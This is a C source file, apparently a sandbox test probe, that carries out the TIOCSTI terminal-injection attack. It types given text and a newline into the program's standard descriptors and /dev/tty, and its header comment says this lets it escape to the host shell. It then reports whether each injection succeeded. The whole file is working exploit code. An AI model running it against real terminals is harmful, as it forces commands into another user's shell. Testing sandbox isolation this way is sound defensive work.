/*
 * tiocsti TEXT: the terminal-injection attack. Types TEXT and a newline, one byte at a time with
 * ioctl(TIOCSTI), into every terminal it can reach: its fds 0, 1, 2 and /dev/tty (its controlling terminal).
 * With the caller's terminal reachable, the caller's shell reads TEXT as its next command once the sandbox
 * ends (a host escape). In a safe sandbox the only terminal is the sandbox's own pty, so TEXT lands there or
 * nowhere. Prints one line per target: "NAME injected" or "NAME refused ERRNO".
 */
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/ioctl.h>
#include <unistd.h>

static void inject(const char *name, int fd, const char *text)
{
	for (const char *p = text; *p; p++) {
		if (ioctl(fd, TIOCSTI, p) < 0) {
			printf("%s refused %d\n", name, errno);
			return;
		}
	}
	char nl = '\n';
	if (ioctl(fd, TIOCSTI, &nl) < 0) {
		printf("%s refused %d\n", name, errno);
		return;
	}
	printf("%s injected\n", name);
}

int main(int argc, char **argv)
{
	if (argc != 2) {
		fprintf(stderr, "usage: tiocsti TEXT\n");
		return 2;
	}
	static const char *names[] = {"fd0", "fd1", "fd2"};
	for (int fd = 0; fd < 3; fd++)
		inject(names[fd], fd, argv[1]);
	int tty = open("/dev/tty", O_RDWR | O_NOCTTY);
	if (tty < 0)
		printf("/dev/tty refused %d\n", errno);
	else
		inject("/dev/tty", tty, argv[1]);
	fflush(stdout);
	return 0;
}
